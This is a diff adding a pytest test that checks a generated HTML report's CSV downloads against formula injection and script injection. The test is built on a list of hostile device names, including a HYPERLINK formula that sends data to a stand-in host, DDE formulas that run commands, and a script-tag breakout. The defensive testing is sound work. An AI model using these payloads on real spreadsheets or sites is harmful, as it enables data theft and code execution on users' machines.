@@ -7,6 +7,7 @@ import re
 import subprocess
 import sys
 import urllib.parse
+import urllib.request
 
 import numpy as np
 import pytest
@@ -331,6 +332,68 @@ def test_tables_can_be_downloaded(page, found):
     address = page.run("return document.getElementById('device-table').href")
     lines = urllib.parse.unquote(address).split("\n")
     assert sum(line.startswith('loops-measured,"device 0"') for line in lines) == 10 * 101
+
+
+# Each is what spreadsheets run, or what breaks a line of CSV; the first device is picked.
+HOSTILE = ['=HYPERLINK("http://evil.test?"&A1)', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'x'!A0",
+           "+1+cmd|'x'", "-1+cmd|'x'", "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1", 'a"b,c\nd',
+           "</script><script>window.owned = 1</script>", "-5", "plain"]  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def hostile(published, sweeps, tmp_path_factory):
+    """A report on devices whose names are hostile."""
+    cells = sf.CellArray(published, len(HOSTILE), seed=5)
+    voltage = np.interp(np.linspace(0, 4, 101), range(5), [0.0, -1.5, 0.0, 1.5, 0.0])
+    currents = np.array(
+        [[cells.apply_voltage(u).read(u, bandwidth=1e6) for u in voltage] for _ in range(12)]
+    )
+    sweeps = learn.sweeps_from_arrays(voltage, currents.transpose(2, 0, 1), tuple(HOSTILE))
+    path = tmp_path_factory.mktemp("hostile") / "report.html"
+    found = learn.compare(published, learn.extract_features(sweeps), seed=3)
+    save_report(found, path, sweeps=sweeps)
+    return path
+
+
+def harmless(cell):
+    """Whether a spreadsheet takes a cell for text or a plain number."""
+    try:
+        float(cell)
+    except ValueError:
+        return not re.match(r"\s*[=+\-@\uff1d]", cell) and cell[:1] not in {"\t", "\r", "\n"}
+    return True
+
+
+def test_downloads_cannot_run_formulas_and_are_csv(browser, hostile):
+    browser.open(hostile.as_uri())
+    browser.wait("return document.documentElement.dataset.ready === 'all'")
+    assert browser.run("return window.owned") is None
+    names = browser.run("return JSON.parse(document.getElementById('offered').textContent).names")
+    assert set(names) == set(HOSTILE)
+    browser.run(
+        "document.getElementById('device-table')"
+        ".addEventListener('click', (e) => e.preventDefault())"
+    )
+    for k, name in enumerate(names):
+        address = browser.run(
+            "document.getElementById('device').value = arguments[0];"
+            "const a = document.getElementById('device-table'); a.click(); return a.href", str(k)
+        )  # fmt: skip
+        text = urllib.parse.unquote(address.removeprefix("data:text/csv;charset=utf-8,"))
+        rows = list(csv.reader(io.StringIO(text, newline="")))
+        data = [row for row in rows if row[0] != "table"]
+        assert {row[1].removeprefix("'") for row in data} == {name}
+        assert all(harmless(cell) for row in rows for cell in row)
+        assert any(float(cell) < 0 for row in data for cell in row[2:])
+    links = browser.run(
+        "return [...document.querySelectorAll('#tables a[download][href*=base64]')]"
+        ".map((a) => a.href)"
+    )
+    for link in links:
+        with urllib.request.urlopen(link) as response:
+            rows = list(csv.reader(io.TextIOWrapper(response, newline="")))
+        assert all(harmless(cell) for row in rows for cell in row)
+        assert len({len(row) for row in rows}) == 1
 
 
 def test_the_page_can_be_read_without_seeing_it(page):
